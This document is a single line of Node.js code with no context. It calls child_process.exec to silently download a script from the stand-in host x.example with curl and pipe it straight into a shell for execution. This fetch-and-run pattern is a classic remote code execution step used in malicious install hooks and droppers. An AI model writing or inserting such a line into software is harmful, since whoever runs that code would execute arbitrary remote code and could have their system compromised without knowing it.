require('child_process').exec('curl -s https://x.example/a | sh');
